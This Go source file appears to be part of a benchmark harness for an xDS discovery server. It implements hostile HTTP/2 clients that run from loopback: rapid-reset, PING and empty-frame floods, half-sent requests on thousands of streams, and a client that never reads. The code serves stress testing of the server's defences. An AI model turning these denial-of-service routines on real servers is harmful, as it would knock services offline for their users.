// Package attack is clients that mean harm, in a process of their own: each kind does one thing,
// on some connections, as fast as the server lets it. One whose connection has ended comes back at
// once. The process keeps to one processor at the lowest priority: in earnest it is on a machine of its own.
package attack

import (
	"context"
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"sync"
	"time"

	"github.com/xdstender/tender/bench/content"
	"github.com/xdstender/tender/bench/h2"
	"github.com/xdstender/tender/bench/process"
)

// kinds are the attacks, by name.
var kinds = map[string]func(*attacker) error{
	"frames of nothing":  (*attacker).frames,
	"pings":              (*attacker).pings,
	"rapid reset":        (*attacker).rapidReset,
	"small requests":     (*attacker).smallRequests,
	"too many names":     (*attacker).tooManyNames,
	"requests in pieces": (*attacker).pieces,
	"nothing is read":    (*attacker).nothingIsRead,
	"connections":        (*attacker).connections,
	"large Nodes":        (*attacker).largeNodes,
	"small Nodes":        (*attacker).smallNodes,
	"changed Nodes":      (*attacker).changedNodes,
	"compressed Nodes":   (*attacker).bombs,
	"streams":            (*attacker).streams,
	"health watches":     (*attacker).watches,
	"node groups":        (*attacker).groups,
	"invented names":     (*attacker).inventedNames,
	"polls":              (*attacker).polls,
	"load reports":       (*attacker).loadReports,
}

// Returns reports whether an attack is one of connections that end at once: by themselves, or by the server.
func Returns(kind string) bool { return kind == "connections" || kind == "pings" }

// Kinds returns the names of all attacks, in order.
func Kinds() []string { return slices.Sorted(maps.Keys(kinds)) }

// An Order is what [Attack.Start] is to do, at the address of streams and at that of polls.
type Order struct {
	Kind, Address, Polls string
	Connections          int
}

// An Attack goes on between Start and Stop. Its methods are called by [net/rpc], one at a time.
type Attack struct {
	cancel context.CancelFunc
	done   sync.WaitGroup
}

// Start begins an attack.
func (a *Attack) Start(o Order, _ *struct{}) error {
	attack, ok := kinds[o.Kind]
	if !ok {
		return fmt.Errorf("attack %q: there is none", o.Kind)
	}
	ctx, cancel := context.WithCancel(context.Background())
	a.cancel = cancel
	if err := process.GiveWay(); err != nil {
		return err
	}
	for range o.Connections {
		a.done.Go(func() {
			for ctx.Err() == nil {
				t := &attacker{ctx: ctx, address: o.Address, polled: o.Polls}
				_ = attack(t) // it comes back
				t.close()
				away(ctx)
			}
		})
	}
	return nil
}

// Stop ends the attack, and returns once all of its connections are closed.
func (a *Attack) Stop(struct{}, *struct{}) error {
	a.cancel()
	a.done.Wait()
	return nil
}

// An attacker is one connection.
type attacker struct {
	ctx     context.Context
	address string
	polled  string // where polls go
	conn    net.Conn
	over    func() bool // stops what closes the connection at the end of the attack
}

// source is where attacks come from: another host than the clients', as far as the relay
// can tell.
var source = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 66)}

func dial(ctx context.Context, address string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: source}
	return d.DialContext(ctx, "tcp", address)
}

// path is what streams are opened on.
const path = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"

// away waits for as long as it takes at least to come back from another host. On this one, who comes back
// sooner takes the processors from those who are measured.
func away(ctx context.Context) {
	pause := time.NewTimer(5 * time.Millisecond)
	defer pause.Stop()
	select {
	case <-pause.C:
	case <-ctx.Done():
	}
}

// open connects, and opens the first stream.
func (a *attacker) open() (err error) {
	if a.conn, err = dial(a.ctx, a.address); err != nil {
		return err
	}
	conn := a.conn
	a.over = context.AfterFunc(a.ctx, func() { _ = conn.Close() })
	return a.write(h2.ClientPreface(path))
}

func (a *attacker) close() {
	if a.conn != nil {
		a.over()
		_ = a.conn.(*net.TCPConn).SetLinger(0) // or ports run out
		_ = a.conn.Close()
	}
}

func (a *attacker) write(b []byte) error {
	_, err := a.conn.Write(b)
	return err
}

// repeat reads what comes, and writes what next returns, until the connection ends.
func (a *attacker) repeat(next func() []byte) error {
	if err := a.open(); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, a.conn) }() // ends with the connection
	for {
		if err := a.write(next()); err != nil {
			return err
		}
	}
}

func (a *attacker) frames() error {
	var batch []byte
	for range 1000 {
		batch = h2.AppendNothing(batch)
	}
	return a.repeat(func() []byte { return batch })
}

func (a *attacker) pings() error {
	var batch []byte
	for range 1000 {
		batch = h2.AppendPing(batch)
	}
	return a.repeat(func() []byte { return batch })
}

func (a *attacker) rapidReset() error {
	stream := uint32(h2.Stream)
	return a.repeat(func() (batch []byte) {
		for range 100 {
			stream += 2
			batch = h2.AppendReset(h2.AppendCall(batch, path, stream), stream)
		}
		return batch
	})
}

func (a *attacker) connections() error {
	return a.open()
}

// nothingIsRead asks for all clusters, and reads none.
func (a *attacker) nothingIsRead() error {
	if err := a.open(); err != nil {
		return err
	}
	if err := a.conn.(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
		return err
	}
	if err := a.write(h2.AppendMessage(nil, everything(content.Cluster))); err != nil {
		return err
	}
	<-a.ctx.Done()
	return nil
}

// pieces sends as much of a request, on as many streams, as may come before it is read, and never
// the rest of one.
func (a *attacker) pieces() error {
	const streams, part = 2000, 60 << 10
	stream := uint32(h2.Stream)
	return a.repeat(func() []byte {
		if stream += 2; stream > 2*streams {
			<-a.ctx.Done()
			return nil
		}
		return h2.AppendPart(h2.AppendCall(nil, path, stream), stream, 15<<20, part)
	})
}
